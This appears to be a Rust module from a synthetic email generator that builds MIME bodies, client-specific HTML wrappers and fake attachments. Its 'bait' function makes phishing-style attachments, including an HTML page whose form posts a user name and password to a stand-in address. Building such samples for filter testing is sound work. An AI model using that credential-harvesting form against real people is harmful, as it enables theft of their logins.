//! MIME bodies: texts, alternatives and attachments.

use crate::clock::Moment;
use crate::dice::{Dice, alphabet};
use crate::mailer::Mailer;
use crate::mime;
use crate::scenario::{Attached, Look};

/// A body and the fields that describe it.
#[derive(Clone, Debug)]
pub(crate) struct Entity {
    /// The fields, with line ends.
    pub(crate) fields: String,
    /// The encoded body, with line ends.
    pub(crate) body: String,
}

/// What a message consists of before it is encoded.
#[derive(Debug)]
pub(crate) struct Content {
    /// The plain text, unless there is only HTML.
    pub(crate) plain: Option<String>,
    /// The HTML, if there is any.
    pub(crate) html: Option<String>,
    /// What is attached.
    pub(crate) attachments: Vec<Entity>,
}

impl Content {
    /// Encodes it as `mailer` does.
    pub(crate) fn encode(self, mailer: Mailer, moment: Moment, dice: &mut Dice) -> Entity {
        let plain = self.plain.map(|text| text_entity("plain", &text, mailer, dice));
        let html = self.html.map(|text| text_entity("html", &text, mailer, dice));
        let texts: Vec<Entity> = plain.into_iter().chain(html).collect();
        let body = gather("alternative", texts, mailer, moment, dice);
        let all = std::iter::once(body).chain(self.attachments).collect();
        gather("mixed", all, mailer, moment, dice)
    }
}

/// Puts entities into a multipart one, unless there is only one.
pub(crate) fn gather(subtype: &str, mut parts: Vec<Entity>, mailer: Mailer, moment: Moment, dice: &mut Dice) -> Entity {
    if parts.len() == 1 {
        return parts.remove(0);
    }
    let boundary = mailer.boundary(moment, dice);
    let mut body = String::with_capacity(parts.iter().map(|part| part.body.len() + 200).sum());
    if mailer == Mailer::Yahoo || mailer == Mailer::Desktop {
        body.push_str("This is a multi-part message in MIME format.\r\n");
    }
    for part in &parts {
        body.push_str(&format!("--{boundary}\r\n{}\r\n{}\r\n", part.fields, part.body));
    }
    body.push_str(&format!("--{boundary}--\r\n"));
    let fields = format!("Content-Type: multipart/{subtype};\r\n boundary=\"{boundary}\"\r\n");
    Entity { fields, body }
}

fn text_entity(subtype: &str, text: &str, mailer: Mailer, dice: &mut Dice) -> Entity {
    let narrow = (mailer == Mailer::Desktop && !text.is_ascii()).then(|| latin1(text)).flatten();
    let (charset, bytes) = match &narrow {
        Some(bytes) => ("iso-8859-1", bytes.as_slice()),
        None => ("UTF-8", text.as_bytes()),
    };
    let foreign = text.chars().filter(|character| !character.is_ascii()).count() * 4 > text.len();
    let short_lines = text.lines().all(|line| line.len() < 900);
    let base64 = foreign || mailer == Mailer::Proton || (mailer == Mailer::Script && dice.chance(350));
    let (encoding, body) = if base64 {
        ("base64", mime::base64_lines(&crlf(bytes)))
    } else if text.is_ascii() && short_lines && subtype == "plain" {
        ("7bit", text.replace('\n', "\r\n"))
    } else {
        ("quoted-printable", mime::quoted_printable(bytes))
    };
    let fields =
        format!("Content-Type: text/{subtype}; charset=\"{charset}\"\r\nContent-Transfer-Encoding: {encoding}\r\n");
    Entity { fields, body }
}

pub(crate) fn crlf(bytes: &[u8]) -> Vec<u8> {
    let mut all = Vec::with_capacity(bytes.len() + 64);
    for byte in bytes {
        if *byte == b'\n' {
            all.push(b'\r');
        }
        all.push(*byte);
    }
    all
}

/// `text` in ISO 8859-1, if that has all its characters.
fn latin1(text: &str) -> Option<Vec<u8>> {
    text.chars().map(|character| u8::try_from(u32::from(character)).ok()).collect()
}

/// Makes up attachments.
pub(crate) fn attachments(attached: Attached, dice: &mut Dice) -> Vec<Entity> {
    match attached {
        Attached::Photos => (0..dice.between(1, 3)).map(|_| photo(dice)).collect(),
        Attached::Document => vec![document(dice)],
        Attached::Pdf => vec![pdf(dice)],
        Attached::Bait => vec![bait(dice)],
    }
}

fn photo(dice: &mut Dice) -> Entity {
    let name = format!("IMG_{}.jpg", dice.characters(alphabet::DIGITS, 4));
    file("image/jpeg", &name, b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01", 9000, dice)
}

fn document(dice: &mut Dice) -> Entity {
    const WORD: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    const SHEET: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    let name = *dice.pick(&["draft", "plan", "minutes", "report", "list", "offer", "notes"]);
    let number = dice.between(1, 9);
    match dice.below(3) {
        0 => file(WORD, &format!("{name}-v{number}.docx"), b"PK\x03\x04\x14\0\x06\0", 7000, dice),
        1 => file(SHEET, &format!("{name}-{number}.xlsx"), b"PK\x03\x04\x14\0\x06\0", 5000, dice),
        _ => pdf(dice),
    }
}

fn pdf(dice: &mut Dice) -> Entity {
    let name = *dice.pick(&["invoice", "document", "ticket", "scan", "statement"]);
    let number = dice.between(1000, 99_999);
    file("application/pdf", &format!("{name}-{number}.pdf"), b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", 8000, dice)
}

fn bait(dice: &mut Dice) -> Entity {
    let number = dice.between(100, 9999);
    match dice.below(3) {
        0 => {
            let page = "<html><body><form action=\"http://203.0.113.9/p.php\" method=\"post\">\
                <input name=\"user\"><input name=\"pass\" type=\"password\"></form></body></html>";
            file("text/html", &format!("Document_{number}.html"), page.as_bytes(), 0, dice)
        }
        1 => file("application/zip", &format!("Invoice{number}.zip"), b"PK\x03\x04", 3000, dice),
        _ => pdf(dice),
    }
}

/// A file that begins with `head` and goes on with at most `noise_bytes_max` of noise.
pub(crate) fn file(media_type: &str, name: &str, head: &[u8], noise_bytes_max: u32, dice: &mut Dice) -> Entity {
    let mut bytes = head.to_vec();
    let start = bytes.len();
    bytes.resize(start + dice.between(noise_bytes_max / 8, noise_bytes_max) as usize, 0);
    dice.fill(&mut bytes[start..]);
    let fields = format!(
        "Content-Type: {media_type}; name=\"{name}\"\r\n\
         Content-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n"
    );
    Entity { fields, body: mime::base64_lines(&bytes) }
}

/// The HTML document around `inner`.
pub(crate) fn page(inner: &str, look: Look, mailer: Mailer, preheader: &str, footer: &str) -> String {
    match (look, mailer) {
        (Look::Letter, Mailer::Google) => format!("<div dir=\"ltr\">{inner}</div>\n"),
        (Look::Letter, Mailer::Exchange) => format!(
            "<html>\n<head>\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n\
             <style type=\"text/css\" style=\"display:none;\"> P {{margin-top:0;margin-bottom:0;}} </style>\n\
             </head>\n<body dir=\"ltr\">\n<div class=\"elementToProof\" style=\"font-family: Aptos, Calibri, \
             sans-serif; font-size: 12pt; color: rgb(0, 0, 0);\">\n{inner}</div>\n</body>\n</html>\n"
        ),
        (Look::Letter, _) => format!(
            "<html><head><meta http-equiv=\"content-type\" content=\"text/html; charset=utf-8\"></head>\
             <body>{inner}</body></html>\n"
        ),
        (Look::Designed, _) => format!(
            "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
             <meta name=\"viewport\" content=\"width=device-width\"><style>\n\
             body{{margin:0;background:#f4f4f4}} .box{{max-width:600px;margin:0 auto;background:#fff}}\n\
             </style></head>\n<body>\n<div style=\"display:none;max-height:0;overflow:hidden\">{preheader}</div>\n\
             <table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td>\n\
             <table class=\"box\" role=\"presentation\" align=\"center\"><tr><td style=\"padding:24px\">\n{inner}\
             </td></tr>\n<tr><td style=\"font-size:12px;color:#888888;padding:24px\">{footer}</td></tr></table>\n\
             </td></tr></table>\n</body></html>\n"
        ),
        (Look::Crude, _) => format!("<html><body bgcolor=\"#FFFFFF\">\n{inner}\n<br><br>{footer}</body></html>\n"),
    }
}
